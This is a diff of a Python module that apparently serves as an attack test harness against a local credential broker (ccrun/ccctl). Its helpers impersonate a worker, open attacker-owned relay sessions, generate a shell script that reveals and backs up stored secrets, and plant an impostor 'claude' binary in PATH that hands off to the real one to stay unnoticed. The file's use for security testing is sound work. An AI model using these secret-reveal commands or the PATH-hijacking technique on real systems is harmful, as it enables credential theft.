@@ -7,16 +7,16 @@ import sys
 from pathlib import Path
 
 import kit
+import wire_client as wc
 from kit import NotHere, call, dump, each, libc, say, show, talk
 
 
 def own_relay(s, ticket=None, **changes):
     """A session of the attacker's own, by the raw protocol; the path of its relay's socket.
     It must not be marked by ccrun, because the attacker does not run ccrun."""
-    import wire_client as wc  # pylint: disable=import-outside-toplevel
     path = f"/tmp/ccatk-{os.getpid()}"
     Path(path).unlink(missing_ok=True)
-    with socket.socket(socket.AF_UNIX) as listener, s.broker() as c:
+    with s.broker() as c, socket.socket(socket.AF_UNIX) as listener:
         listener.setsockopt(socket.SOL_SOCKET, socket.SO_PASSCRED, 1)
         listener.bind(path)
         listener.listen(16)
@@ -212,7 +212,6 @@ def echo(how):
 
 def quota_worker(s):
     """Pose as the worker that asks for quota numbers."""
-    import wire_client as wc  # pylint: disable=import-outside-toplevel
     wc.undumpable()
     for kind in ("zai", "deepseek", "none"):
         with s.broker() as c:
@@ -238,7 +237,7 @@ def burst(s):
 
 # ---- the mark, shed: somebody outside runs it ----
 
-ASKS = '$CCCTL get {e} --reveal; $CCCTL backup $HOME/b; $CCRUN --exec /usr/bin/env {e}; $CCRUN {e} -p "{tag}" < /dev/null'
+ASKS = '$CCCTL get {e} --reveal; $CCCTL backup $HOME/b; timeout 5 $CCRUN --exec /usr/bin/env {e}; timeout 9 $CCRUN {e} -p "{tag}"'
 
 
 def asked_outside(s):
@@ -247,7 +246,8 @@ def asked_outside(s):
         raise NotHere("no ccrun there")
     text = ASKS.format(e=s.entry, tag=s.tag).replace("$CCRUN", str(s.ccrun)).replace("$CCCTL", str(s.ccctl))
     script = s.out / f"outside.{s.technique}.{s.vantage}"
-    script.write_text(f"#!/bin/bash\n({text}) > {s.won}.{s.vantage} 2>&1\n{s.note}\n"
+    script.write_text(f"#!/bin/bash\nexec < /dev/null\n{s.note}\n"
+                      f"(setsid -w bash -c '{text}') > {s.won}.{s.vantage} 2>&1\n"
                       f"touch {s.won}.{s.vantage}.end\n")
     script.chmod(0o755)
     return script
@@ -341,6 +341,10 @@ def planted_client(s):
     where.mkdir(exist_ok=True)
     (where / "claude").write_text(f"""#!{sys.executable}
 import os, sys
+if "CCRUN_TICKET" not in os.environ:
+    # It is tried: as the true one.
+    path = [d for d in os.environ["PATH"].split(":") if d != "{where}" and os.access(d + "/claude", os.X_OK)]
+    os.execv(path[0] + "/claude", ["claude", *sys.argv[1:]])
 sys.path[:0] = ["{s.kit}", "{s.kit}/lib"]
 from kit import Scene, talk
 s = Scene("{s.path}")
